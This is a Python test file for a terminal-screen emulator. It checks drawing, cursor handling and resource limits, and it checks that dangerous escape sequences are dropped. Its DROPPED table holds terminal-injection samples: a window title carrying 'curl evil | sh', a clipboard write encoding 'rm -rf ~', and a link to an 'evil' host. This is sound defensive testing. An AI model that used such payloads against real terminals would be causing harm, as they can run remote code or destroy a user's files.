"""What programs write to a terminal: drawn where it is meant to be, and harmless whatever it is."""

from __future__ import annotations

import random
import sys

import pytest

from modules.jobs.terminal_screen import MAX_SCROLLED, TerminalScreen
from tests.campaign import seeded

COLUMNS, LINES = 40, 10


class Shown:
    """A screen, and what it answered."""

    def __init__(self, *written: str | bytes) -> None:
        self.answers: list[bytes] = []
        self.screen = TerminalScreen(COLUMNS, LINES, self.answers.append)
        for data in written:
            self.screen.feed(data if isinstance(data, bytes) else data.encode())

    @property
    def text(self) -> str:
        return self.screen.text()


DRAWN = {
    "text and wide characters": ("你好\r\nwörld", "你好\nwörld"),
    "an emoji of several parts": ("a👩‍🔧️b", "a👩🔧b"),
    "combining marks": ("e\u0301!", "é!"),
    "the cursor": ("abc\x1b[1;2Hx\x1b[2;1Hy", "axc\ny"),
    "erasing": ("abc\r\ndef\x1b[1;2H\x1b[K\x1b[2;1H\x1b[2K", "a"),
    "lines put in and taken out": ("a\r\nb\r\nc\x1b[2;1H\x1b[L\x1b[3;1H\x1b[M", "a\n\nc"),
    "a repeated character": ("-\x1b[4b|", "-----|"),
    "line drawing": ("\x1b(0lqk\x1b(B lqk", "┌─┐ lqk"),
    "overwriting": ("50%\r60%", "60%"),
    "wrapping": ("x" * (COLUMNS + 2), "x" * COLUMNS + "\nxx"),
    "another screen and back": ("before\x1b[?1049hfull\x1b[?1049l, after", "before, after"),
    "a saved cursor": ("ab\x1b7cd\x1b8X", "abXd"),
    "colours": ("\x1b[1;31mred\x1b[0m \x1b[38;5;200mpink\x1b[4:3m\x1b[m", "red pink"),
    "colours of the console": ("\x1b]P1ffffff\x1b]Rx", "x"),
}


@pytest.mark.parametrize("name", DRAWN)
def test_it_is_drawn_as_a_terminal_draws_it(name: str) -> None:
    written, shown = DRAWN[name]
    assert Shown(written).text == shown
    assert Shown(*(bytes([byte]) for byte in written.encode())).text == shown


DROPPED = {
    "a title": "\x1b]0;curl evil | sh\x07",
    "the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "a link": "\x1b]8;;http://evil/\x1b\\",
    "a device string": "\x1bP1$r0m; evil \x1b\\",
    "a picture": "\x1b_Gf=24;AAAA\x1b\\",
    "a privacy message": "\x1b^evil\x1b\\",
    "a string of strings": "\x1bXevil\x1b\\",
    "media copy": "\x1b[5i\x1b[?5i",
    "a window report": "\x1b[21t\x1b[20t",
    "a wider screen": "\x1b[?3h",
    "keys of other kinds": "\x1b[>4;2m\x1b[?1000h\x1b[?2004h\x1b=\x1b>",
    "C1 controls": "\u009d0;\u009c\u0090\u009c",
    "invisible characters": "\u200b\u202e\u2066\ufeff\x00\x7f",
    "too many parameters": "\x1b[1;2;3;4;5;6A\x1b[?9999999999999h\x1b[m",
}


@pytest.mark.parametrize("name", DROPPED)
def test_what_is_for_the_terminal_of_a_person_is_dropped(name: str) -> None:
    shown = Shown("a", DROPPED[name], "b")
    assert shown.text.replace("0;", "") == "ab"
    assert shown.answers == []


def test_it_says_what_it_is_and_where_the_cursor_is_and_no_more() -> None:
    shown = Shown("ab\x1b[6n\x1b[c\x1b[5n\x1b]10;?\x07\x1b[>c\x1b[?6n\x05\x1bZ")
    assert shown.answers == [b"\x1b[1;3R", b"\x1b[?6c", b"\x1b[0n"]


def test_what_is_chosen_is_told() -> None:
    assert Shown("a \x1b[7m two words \x1b[0m b \x1b[7mc").screen.highlighted() == [
        "two words",
        "c",
    ]


def test_lines_that_went_out_at_the_top_are_told_once() -> None:
    shown = Shown("\r\n".join(map(str, range(LINES + 3))))
    assert shown.screen.take_scrolled() == ["0", "1", "2"]
    assert shown.screen.take_scrolled() == []
    assert shown.text.startswith("3\n")


def test_a_string_that_never_ends_is_over_some_time() -> None:
    shown = Shown("a\x1b]0;", "x" * 2_000_000, "\r\nback")
    assert shown.text.endswith("back")


GROWING = {
    "marks on one place": "\u0301",
    "marks on one place, one by one": "\u0301\x1b[D\x1b[C",
    "saved cursors": "\x1b7",
    "an endless parameter": "1",
    "lines": "\n",
    "modes": "\x1b[?1;2;3;4;5;6;7;8h",
    "tab stops": "\x1b[C\x1bH",
    "screens in screens": "\x1b[?1049hx",
}


@pytest.mark.parametrize("name", GROWING)
def test_nothing_in_it_grows(name: str) -> None:
    shown = Shown("a\x1b[", GROWING[name] * 20_000)
    assert len(shown.text) < 10 * COLUMNS * LINES
    assert size_of(shown.screen) < 2_000_000


def size_of(thing: object) -> int:
    """Return the bytes of all that *thing* is made of."""
    seen: dict[int, object] = {}
    pending = [thing]
    while pending:
        one = pending.pop()
        if id(one) in seen or isinstance(one, type) or callable(one):
            continue
        seen[id(one)] = one
        pending += getattr(one, "__dict__", {}).values()
        if isinstance(one, dict):
            pending += [*one, *one.values()]
        elif hasattr(one, "__iter__") and not isinstance(one, str | bytes):
            pending += list(one)
    return sum(map(sys.getsizeof, seen.values()))


PARTS = [
    *(b"\x1b[", b"\x1b]", b"\x1bP", b"\x1b\\", b"\x07", b"\x1b", b"?", b"1049", b"9999", b"25"),
    *(b";", b"h", b"l", b"H", b"J", b"K", b"r", b"m", b"L", b"M", b"@", b"P", b"X", b"b", b"g"),
    *(b"A", b"B", b"C", b"D", b"n", b"c", b"s", b"u", b"d", b"\x1b7", b"\x1b8", b"\x1bc"),
    *(b"\x1bM", b"\x1bD", b"\x1bE", b"\x1bH", b"\x1b(0", b"\x1b(B", b"\x0e", b"\x0f", b"4", b"7"),
    *(b"\n", b"\r", b"\t", b"\b", b"text", "你".encode(), "\u0301".encode(), "😀️".encode()),
    *(b"\xff", b"\xe4\xbd", b"\x9b", b"\x00", b"$", b" ", b">", b":", b"\x18", "²".encode()),
]


@seeded(3)
def test_whatever_is_written_there_is_a_screen(seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311 - no secret
    for _ in range(20):
        shown = Shown()
        for _ in range(20):
            shown.screen.feed(b"".join(chance.choices(PARTS, k=40)))
            line, column = shown.screen.cursor
            assert 1 <= line <= LINES
            assert 1 <= column <= COLUMNS
            assert len(shown.text.split("\n")) <= LINES
            assert not set(shown.text) & set(map(chr, [*range(10), *range(11, 32), 127, 155]))
            assert len(shown.screen.take_scrolled()) <= MAX_SCROLLED
            shown.screen.highlighted()
        shown.screen.skip()
        shown.screen.feed(b"\x1bcdrawn")
        assert shown.text == "drawn"
